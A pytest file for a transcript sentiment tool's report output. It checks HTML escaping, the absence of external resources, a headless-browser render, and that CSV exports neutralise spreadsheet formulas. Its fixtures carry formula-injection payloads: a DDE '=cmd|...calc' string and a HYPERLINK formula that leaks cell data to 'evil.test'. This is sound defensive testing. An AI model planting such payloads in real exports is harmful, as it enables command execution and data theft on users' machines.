"""The reports: HTML (structure, escaping, no external resources, a real render in headless Chromium) and CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from moodline.cli import main
from moodline.inference.engine import Engine
from moodline.inference.three_way import ThreeWayPrediction, ThreeWayScorer
from moodline.transcripts import parse_transcript
from moodline.transcripts.insights import analyse, summarise, utterances_to_score
from moodline.transcripts.report import (
    CSV_COLUMNS,
    PALETTE,
    SEGMENT_CSV_COLUMNS,
    render_csv,
    render_html,
    render_segments_csv,
    write_pngs,
)
from tests.conftest import ROOT
from tests.servers import require_binary
from tests.transcripts.conftest import HOSTILE_CALL

SAMPLES = Path(__file__).parent / "samples"
ARTIFACTS = ROOT / "test-artifacts"


@pytest.fixture(scope="module")
def insights() -> dict:
    turns = [
        ("Alex", "I love how this project turned out, great work everyone."),
        ("<b>Sam</b>", "Thanks! The demo went really well."),
        ("Alex", "But the budget review was a disaster and I am worried."),
        ("<b>Sam</b>", "Yes, that meeting was awful."),
    ]
    text = json.dumps([{"speaker": speaker, "text": words} for speaker, words in turns])
    return analyse(
        parse_transcript(text, format="json", source="team <chat>"), ThreeWayScorer(Engine.load()), window=2
    ).to_dict()


def test_one_series_per_speaker_and_everything_escaped(insights):
    page = render_html(insights)
    series = re.findall(r'<polyline class="series" data-speaker="([^"]*)"', page)
    assert sorted(series) == ["&lt;b&gt;Sam&lt;/b&gt;", "Alex"]
    assert "<b>Sam</b>" not in page and "team &lt;chat&gt;" in page
    assert page.count("<circle") == insights["summary"]["utterances"]


def test_no_external_resources(insights):
    page = render_html(insights)
    assert not re.search(r'(src|href)\s*=\s*"(https?:)?//', page)
    assert "<script" not in page and "@import" not in page


def test_png_charts(insights, tmp_path):
    for path in write_pngs(insights, tmp_path):
        assert path.read_bytes()[:4] == b"\x89PNG"


@pytest.fixture(scope="module")
def hostile_insights() -> dict:
    call = parse_transcript(HOSTILE_CALL, format="vtt", source="hostile.vtt")
    return analyse(call, ThreeWayScorer(Engine.load()), window=2).to_dict()


def test_csv_neutralises_formulas_from_speakers_and_words(hostile_insights):
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [row["speaker"] for row in rows] == ["'=cmd|' /C calc'!A0", "Dana Whitfield", "'@Sam", "Unknown"]
    assert [row["text"] for row in rows] == [
        "Thanks for joining, this went really well.",
        "'-2+3 is what the invoice said, which is awful.",
        "'+1 from me, great call.",
        """'=HYPERLINK("http://evil.test/?q="&A1,"details"): see you all tomorrow.""",
    ]
    # Numbers moodline computed stay numbers, negative ones included.
    for row, utterance in zip(rows, hostile_insights["utterances"], strict=True):
        assert float(row["sentiment"]) == pytest.approx(utterance["sentiment"])
        assert float(row["start"]) == utterance["start"] and int(row["position"]) == utterance["position"]
    assert any(row["sentiment"].startswith("-") for row in rows)


def test_raw_csv_keeps_speakers_and_words_as_they_were(hostile_insights):
    rows = list(csv.DictReader(io.StringIO(render_csv(hostile_insights, raw_csv=True), newline="")))
    assert [row["speaker"] for row in rows] == [u["speaker"] for u in hostile_insights["utterances"]]
    assert [row["text"] for row in rows] == [u["text"] for u in hostile_insights["utterances"]]
    assert rows[0]["speaker"] == "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_segment() -> dict:
    """The hostile call with every utterance negative (no model): one negative stretch over all four."""
    call = parse_transcript(HOSTILE_CALL, format="vtt", source="hostile.vtt")
    pieces = utterances_to_score(call)
    predictions = [ThreeWayPrediction("negative", value) for value in (-0.4, -0.9, -0.5, -0.8)]
    return summarise(call, pieces, predictions).to_dict()


def test_html_shows_the_metrics_table_and_the_segments_escaped(hostile_segment):
    page = render_html(hostile_segment)
    opens = page.index('<table id="speaker-metrics">')
    table = page[opens : page.index("</table>", opens)]
    assert table.count("<tr>") == 1 + 4  # the header and one row per speaker
    assert "=cmd|&#x27; /C calc&#x27;!A0" in table and "@Sam" in table
    assert "<td>Dana Whitfield</td><td>4.0 s</td><td>36%</td><td>9</td><td>135</td><td>4.0 s</td>" in table
    assert (
        '<p id="call-metrics">0:11 long; someone is speaking 100% of it (silence 0%); 4 turns, 3 speaker switches, '
        "0 questions (16.4 switches a minute); 0 interruptions.</p>"
    ) in page
    segments = page[page.index('<ol id="segments">') :]
    assert segments.count('class="segment negative"') == 1
    assert "utterances 0–3 (4)" in segments and "0:01–0:12" in segments
    assert "“-2+3 is what the invoice said, which is awful.”" in segments  # the most negative quote
    assert "=HYPERLINK(&quot;http://evil.test/?q=&quot;&amp;A1,&quot;details&quot;)" in segments


def test_html_says_why_an_untimed_transcript_has_no_time_figures():
    chat = parse_transcript("Ana: Can we start?\nBo: Yes.\n", format="plain")
    pieces = utterances_to_score(chat)
    page = render_html(summarise(chat, pieces, [ThreeWayPrediction("neutral", 0.0)] * 2).to_dict())
    assert "the plain transcript has no timings" in page and "1 question" in page
    assert "No stretch of the call stayed clearly negative or positive." in page


def test_segments_csv_has_one_row_per_quote_and_neutralises_formulas(hostile_segment):
    rows = list(csv.DictReader(io.StringIO(render_segments_csv(hostile_segment), newline="")))
    assert list(rows[0]) == list(SEGMENT_CSV_COLUMNS)
    [segment] = hostile_segment["segments"]
    assert len(rows) == len(segment["quotes"]) == 3
    assert {row["segment"] for row in rows} == {"1"} and {row["kind"] for row in rows} == {"negative"}
    assert rows[0]["speakers"] == "'=cmd|' /C calc'!A0; Dana Whitfield; @Sam; Unknown"
    assert [row["quote_speaker"] for row in rows] == ["Dana Whitfield", "'@Sam", "Unknown"]
    assert rows[0]["quote_text"].startswith("'-2+3") and rows[2]["quote_text"].startswith("'=HYPERLINK")
    assert float(rows[0]["mean_sentiment"]) == pytest.approx(-0.65)  # a number, not neutralised
    assert [float(row["quote_sentiment"]) for row in rows] == [-0.9, -0.5, -0.8]
    raw = list(csv.DictReader(io.StringIO(render_segments_csv(hostile_segment, raw_csv=True), newline="")))
    assert raw[0]["speakers"].startswith("=cmd") and raw[0]["quote_text"].startswith("-2+3")


@pytest.mark.integration
def test_report_renders_in_headless_chromium():
    chromium = require_binary("chromium", "chromium-browser")
    ARTIFACTS.mkdir(exist_ok=True)
    report, shot = ARTIFACTS / "zoom_customer_call.html", ARTIFACTS / "zoom_customer_call.png"
    shot.unlink(missing_ok=True)
    result = CliRunner().invoke(main, ["transcript", str(SAMPLES / "zoom_customer_call.vtt"), "--html", str(report)])
    assert result.exit_code == 0, result.output
    subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={ARTIFACTS / 'chromium-profile'}",
            "--window-size=1000,900",
            f"--screenshot={shot}",
            report.as_uri(),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    import matplotlib.image as mpimg
    import numpy as np

    pixels = (mpimg.imread(shot)[:, :, :3] * 255).round().astype(int)
    for colour in PALETTE[:3]:  # the three speakers' timeline lines were drawn
        rgb = np.array([int(colour[i : i + 2], 16) for i in (1, 3, 5)])
        assert (np.abs(pixels - rgb).sum(axis=2) < 30).sum() > 200, colour
